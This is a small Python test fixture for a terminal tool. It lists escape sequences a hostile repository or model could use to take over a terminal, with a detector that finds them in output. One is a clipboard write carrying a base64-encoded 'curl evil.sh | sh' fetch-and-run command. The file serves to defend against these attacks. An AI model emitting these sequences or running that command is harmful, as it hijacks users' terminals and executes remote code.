"""What a hostile repository or model puts in names and messages to take over a terminal."""

OSC52 = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"  # writes the clipboard
TITLE = "\x1b]0;pwned\x07"  # sets the window title
CLEAR = "\x1bc\x1b[2J\x1b[H"  # resets and clears the screen
BIDI = "\u202e"  # right-to-left override: hides what a name really says
HOSTILE = OSC52 + TITLE + CLEAR + BIDI + "\r\b\x9b"

# None of these may reach the terminal raw; codebox's own styling uses SGR (ESC [ ... m) and,
# for the status line, cursor movement and line erasing (ESC [ ... A/K, ESC [ ? 25 l/h).
RAW_ATTACKS = (b"\x1b]", b"\x07", b"\x1bc", b"\x1b[2J", b"\x1b[H", "\u202e".encode(), b"\x08", "\x9b".encode())


def raw_attacks_in(output: bytes) -> list[bytes]:
    return [seq for seq in RAW_ATTACKS if seq in output]
